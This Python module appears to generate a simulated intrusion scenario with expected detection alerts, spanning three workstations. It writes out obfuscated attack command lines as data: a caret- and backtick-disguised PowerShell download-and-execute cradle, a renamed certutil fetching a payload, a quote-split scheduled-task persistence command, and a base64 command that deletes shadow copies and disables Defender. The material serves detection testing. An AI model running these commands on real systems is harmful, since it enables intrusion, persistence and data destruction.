"""Commands that hide behind carets, quotes, backticks, base64 and another program's name. Five alerts.

A script from an archive on wks-hr-03 runs a command with carets, which starts PowerShell with backticks; on
wks-sales-05 a copy of certutil under another name fetches a program, and a task is made with torn words; on
wks-fin-07 a command is given to PowerShell whole in base64, with a dash that is none.
"""

import base64

from local.incidents.case import Case, Expectation, process_evidence
from local.incidents.estate import PARTNER, SELLER
from local.incidents.programs import program
from local.incidents.scene import Scene, scene
from local.incidents.stage import Stage, as_user, attacker
from local.incidents.world import File, Process

_SERVER = "203.0.113.66"
_INCIDENT = 1_085


def tell(stage: Stage) -> None:
    """Records the commands, and raises their alerts."""
    _carets_and_backticks(scene(stage, "wks-hr-03", "08:21:13.3340917"))
    _another_name(scene(stage, "wks-sales-05", "08:36:02.5517703"))
    _torn_words(scene(stage, "wks-sales-05", "08:41:27.0098114"))
    _whole_in_base64(scene(stage, "wks-fin-07", "08:57:44.7120031"))


def _alert(
    on: Scene,
    subject: Process,
    title: str,
    because: str,
    *,
    created: float,
    last: float,
    category: str,
    techniques: tuple[str, ...],
) -> None:
    expected = Expectation("ExactProcess", "Confirmed", because, anchors=(subject,), techniques=techniques)
    on.stage.raise_alert(
        Case(
            title=title,
            description="A command line was written so that it reads as something else.",
            severity="Medium",
            category=category,
            device=subject.device,
            first=subject.created,
            last=on.moment(last),
            created=on.moment(created),
            evidence=(process_evidence(subject),),
            expected=expected,
            incident=_INCIDENT,
            techniques=techniques,
            user=subject.account,
        )
    )


def _carets_and_backticks(on: Scene) -> None:
    home = as_user(PARTNER)
    script = f"{home}\\AppData\\Local\\Temp\\Temp1_application.zip\\application.js"
    explorer = on.resident("explorer.exe")
    host = on.run(explorer, "wscript.exe", f'"C:\\Windows\\System32\\WScript.exe" "{script}"', 0, life=200)
    line = (
        'cmd.exe /c "s^e^t u=1 & p^o^w^e^r^s^h^e^l^l -n^o^p -w h^i^d^d^e^n -c '
        f"^(Ne`w-Obj`ect Net.We`bCl`ient^).Do`wnloa`dStr`ing^('http://{_SERVER}/a'^)^|i`e`x\""
    )
    shell = on.run(host, "cmd.exe", line, 2.2, life=160)
    code = f"(Ne`w-Obj`ect Net.We`bCl`ient).Do`wnloa`dStr`ing('http://{_SERVER}/a')|i`e`x"
    powershell = on.run(shell, "powershell.exe", f"powershell  -nop -w hidden -c {code}", 2.9, life=150)
    on.load(powershell, 3.3, "amsi.dll")
    for after in (3.9, 64.1, 124.3):
        on.call(powershell, after, _SERVER, f"http://{_SERVER}/a" if after < 4 else "", port=80)
    on.run(powershell, "whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /all', 20.6)
    _alert(
        on,
        shell,
        "Command line disguised by carets",
        "A script from an archive ran PowerShell, which fetched code and ran it.",
        created=100,
        last=21,
        category="Execution",
        techniques=("T1059.001",),
    )
    _alert(
        on,
        powershell,
        "Command line disguised by backticks",
        "PowerShell fetched code and ran it in memory.",
        created=104,
        last=21,
        category="Execution",
        techniques=("T1059.001",),
    )


def _another_name(on: Scene) -> None:
    tool = program("windows", "certutil.exe")
    copy = File(
        "jusched.exe",
        as_user(SELLER) + "\\AppData\\Roaming\\Oracle",
        tool.company,
        tool.signer,
        original=tool.own_name,
        copied_from=tool.path,
    )
    explorer = on.resident("explorer.exe")
    shell = on.run(explorer, "cmd.exe", 'cmd.exe /c "%APPDATA%\\Oracle\\go.cmd"', 0, life=60)
    on.write(shell, 1.1, copy.path)
    fetched = on.stage.drop(attacker("jucheck.exe", copy.folder))
    url = f"http://{_SERVER}/jre.txt"
    fetch = on.run(shell, copy, f"{copy.path} -urlcache -split -f {url} {fetched.path}", 2.4)
    on.call(fetch, 3.0, _SERVER, url, port=80)
    on.write(fetch, 4.2, fetched.path, origin=url)
    run = on.run(shell, fetched, fetched.path, 6.6, life=400)
    on.call(run, 9.8, _SERVER, port=4_433)
    on.call(run, 190.4, _SERVER, port=4_433)
    _alert(
        on,
        fetch,
        "Program with another name than its own",
        "The certificate tool, copied under another name, fetched a program.",
        created=130,
        last=4.3,
        category="DefenseEvasion",
        techniques=("T1105",),
    )


def _torn_words(on: Scene) -> None:
    explorer = on.resident("explorer.exe")
    shell = on.run(explorer, "cmd.exe", 'cmd.exe /q /c "%TEMP%\\s.cmd"', 0, life=40)
    line = (
        'sch""tasks  /cre""ate /tn "OneDrive Standalone Update" /sc onlogon /f /tr '
        '"power""shell -w hid""den -ex bypass -f C:\\Users\\Pub""lic\\.\\Libraries\\u.ps1"'
    )
    task = on.run(shell, "schtasks.exe", line, 1.8)
    on.load(task, 2.0, "taskschd.dll")
    note = {"AdditionalFields": '{"TaskName":"\\\\OneDrive Standalone Update","TaskContent":"<Task/>"}'}
    on.stage.recorder.event("DeviceEvents", task, on.moment(2.3), "ScheduledTaskCreated", note)
    _alert(
        on,
        task,
        "Scheduled task made by a command with torn words",
        "A task was made that runs a hidden script from a public folder at each logon.",
        created=95,
        last=2.4,
        category="Persistence",
        techniques=("T1053.005",),
    )


def _whole_in_base64(on: Scene) -> None:
    command = "vssadmin delete shadows /all /quiet; Set-MpPreference -DisableRealtimeMonitoring $true"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    explorer = on.resident("explorer.exe")
    line = f"powershell.exe \u2013NoP \u2013W 1 \u2013e {encoded}"
    shell = on.run(explorer, "powershell.exe", line, 0, life=60, integrity="High")
    on.load(shell, 0.4, "amsi.dll")
    on.run(shell, "vssadmin.exe", '"C:\\Windows\\system32\\vssadmin.exe" delete shadows /all /quiet', 1.7)
    settings = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection"
    on.put(shell, 3.6, settings, "DisableRealtimeMonitoring", "1", "Dword")
    _alert(
        on,
        shell,
        "Command line whole in base64",
        "PowerShell deleted the shadow copies and switched the antivirus off.",
        created=90,
        last=3.7,
        category="DefenseEvasion",
        techniques=("T1490",),
    )
